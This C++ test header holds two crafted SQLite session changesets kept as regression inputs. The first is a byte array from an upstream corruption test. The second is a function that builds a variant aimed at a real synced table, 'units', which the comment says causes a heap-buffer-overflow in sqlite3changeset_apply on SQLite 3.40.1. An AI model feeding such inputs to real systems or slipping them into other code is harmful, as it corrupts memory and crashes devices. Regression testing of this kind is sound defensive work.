// The 242-byte changeset of upstream SQLite ext/session/sessioncorrupt.test (2026-08-17),
// kept as a permanent regression input. Table "t" with 2 columns, one UPDATE, then a
// second header for "t" with 64 columns. Below it, its variant on a synced table.
#pragma once

#include <string>

inline constexpr char kSessionCorruptChangeset[] =
    "\x54\x02\x01\x00\x74\x00\x17\x00\x01\x00\x00\x00\x00\x00\x00\x00"
    "\x01\x03\x03\x6f\x6c\x64\x00\x03\x03\x6e\x65\x77\x54\x40\x01\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x74\x00"
    "\x17\x00\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    "\x00\x02";

// The same attack aimed at a table a device really syncs: SQLite's apply skips tables the
// database lacks, so the bytes above do nothing to a device, but these do. "units" is first
// declared with its live shape (5 columns, key at 0) and one UPDATE, then again with 64
// columns and an UPDATE of the key: handed to sqlite3changeset_apply on Debian's SQLite
// 3.40.1, AddressSanitizer reports a heap-buffer-overflow (memset inside SQLite).
inline std::string SessionCorruptUnitsChangeset() {
  auto text = [](const std::string& s) {
    return std::string{'\x03', static_cast<char>(s.size())} + s;
  };
  const std::string undefined(1, '\0');
  std::string b("T\x05\x01\x00\x00\x00\x00units\x00", 13);
  b += std::string("\x17\x00", 2) + text("p01") + text("q11") + undefined + text("old") +
       undefined;                                                    // old record
  b += undefined + undefined + undefined + text("new") + undefined;  // new record
  b += std::string("T\x40\x01", 3) + std::string(63, '\0') + std::string("units\x00", 6);
  b += std::string("\x17\x00", 2) + text("p01") + std::string(63, '\0');  // old: key only
  b += text("p02") + std::string(63, '\0');                               // new: the key
  return b;
}
